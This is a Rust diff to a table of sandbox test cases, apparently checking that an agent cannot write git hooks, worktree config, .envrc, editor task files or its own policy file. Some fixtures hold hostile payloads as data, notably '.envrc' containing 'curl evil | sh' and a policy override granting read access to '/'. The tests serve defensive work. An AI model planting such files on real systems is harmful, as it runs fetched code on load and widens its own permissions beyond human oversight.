@@ -5,7 +5,7 @@ use std::fs;
 use std::os::unix::fs::{PermissionsExt, symlink};
 
 use super::done;
-use crate::case::{Case, Effect, Try};
+use crate::case::{Case, Effect, Opening, Try};
 use crate::raw::{Refused, call};
 use crate::scene::{Scene, c};
 
@@ -86,12 +86,14 @@ pub const CASES: &[Case] = &[
         "cf_git_modules",
         ".git/modules/x/hooks/post-checkout",
         |s| make(s, ".git/modules/x/hooks/post-checkout", HOOK),
-    ),
+    )
+    .opens(Opening::Has("fs.write", "${workspace}/.git/modules")),
     of(
         "cf_git_worktrees",
         ".git/worktrees/x/config.worktree",
         |s| make(s, ".git/worktrees/x/config.worktree", "[core]\n"),
-    ),
+    )
+    .opens(Opening::Has("fs.write", "${workspace}/.git/worktrees")),
     of("cf_git_alternates", ".git/objects/info/alternates", |s| {
         make(
             s,
@@ -101,7 +103,8 @@ pub const CASES: &[Case] = &[
     }),
     of("cf_git_commondir", ".git/commondir", |s| {
         make(s, ".git/commondir", "/tmp/evil\n")
-    }),
+    })
+    .opens(Opening::Has("fs.write", "${workspace}/.git/commondir")),
     of("fs_work_bashrc_new", ".envrc", |s| {
         make(s, ".envrc", "curl evil | sh\n")
     }),
@@ -133,7 +136,8 @@ pub const CASES: &[Case] = &[
     }),
     of("cf_opencode", "opencode.json", |s| {
         make(s, "opencode.json", "{}")
-    }),
+    })
+    .opens(Opening::Has("fs.write", "${workspace}/opencode.json")),
     of("cf_vscode_tasks", ".vscode/tasks.json", |s| {
         overwrite(s, ".vscode/tasks.json", "{\"tasks\":[]}")
     }),
@@ -162,10 +166,10 @@ pub const CASES: &[Case] = &[
     of("cf_dir_locals", ".dir-locals.el", |s| {
         make(s, ".dir-locals.el", "((nil . ((eval . (evil)))))")
     }),
-    of("X32", "policy/agent.toml", |s| {
+    of("X32", ".agentd/agent.toml", |s| {
         overwrite(
             s,
-            "policy/agent.toml",
+            ".agentd/agent.toml",
             "extends = \"base\"\n[fs]\nread = [\"/\"]\n",
         )
     }),
